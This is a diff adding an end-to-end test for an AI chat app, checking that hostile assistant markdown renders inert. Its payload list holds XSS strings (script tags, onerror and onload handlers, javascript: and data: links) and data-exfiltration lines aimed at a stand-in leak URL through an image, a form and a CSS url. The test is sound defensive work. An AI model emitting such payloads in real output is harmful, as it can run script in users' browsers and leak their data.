@@ -1,0 +1,49 @@
+"""Model text as an attacker would write it, rendered in the real app: nothing runs, nothing loads.
+
+The assistant's markdown is rendered without raw HTML and sanitized: no script, no event handler, no
+`javascript:`/`data:` link, no image (an image URL could carry data out), and no request to anywhere
+the text names.
+"""
+
+from __future__ import annotations
+
+from playwright.sync_api import expect
+
+from tests.e2e.conftest import KEY, App
+from tests.e2e.ui import REPLY_TIMEOUT_MS, send_for_reply, wait_ready
+from tests.fakes.fake_llm import FakeLLM
+from tests.fakes.replies import Reply
+
+LEAK = "http://127.0.0.1:9/leak"
+PAYLOAD = "\n\n".join(
+    [
+        "Marker **safe-text**.",
+        "<script>window.__pwned = 'script'</script>",
+        "<img src=x onerror=\"window.__pwned = 'img'\">",
+        f"![chart]({LEAK}?d=secret)",
+        "[click me](javascript:window.__pwned='link')",
+        "[data link](data:text/html,<script>alert(1)</script>)",
+        "<a href=\"javascript:window.__pwned='raw'\">raw link</a>",
+        "<iframe src=\"javascript:window.__pwned='frame'\"></iframe>",
+        "<svg onload=\"window.__pwned='svg'\"></svg>",
+        f"<form action=\"{LEAK}\"><input name=x></form>",
+        f"<style>body{{background:url({LEAK}?css)}}</style>",
+    ]
+)
+
+
+def test_hostile_markdown_renders_inert(connected_app: App, fake: FakeLLM) -> None:
+    page = connected_app.page
+    fake.reset(api_key=KEY)
+    wait_ready(page)
+    fake.script([Reply.text(PAYLOAD)])
+    reply = send_for_reply(page, "Show me something")
+    expect(reply.locator("strong")).to_have_text("safe-text", timeout=REPLY_TIMEOUT_MS)
+    wait_ready(page)
+    for selector in ["script", "img", "iframe", "svg", "form", "input", "style", "[onerror]", "[onload]"]:
+        expect(reply.locator(selector)).to_have_count(0)
+    hrefs = reply.locator("a").evaluate_all("els => els.map(e => e.getAttribute('href') || '')")
+    assert not [h for h in hrefs if h.lower().startswith(("javascript:", "data:"))], hrefs
+    reply.get_by_text("click me").click()
+    assert page.evaluate("() => window.__pwned ?? null") is None
+    assert not [r for r in connected_app.traffic.requests if LEAK in r], connected_app.traffic.requests
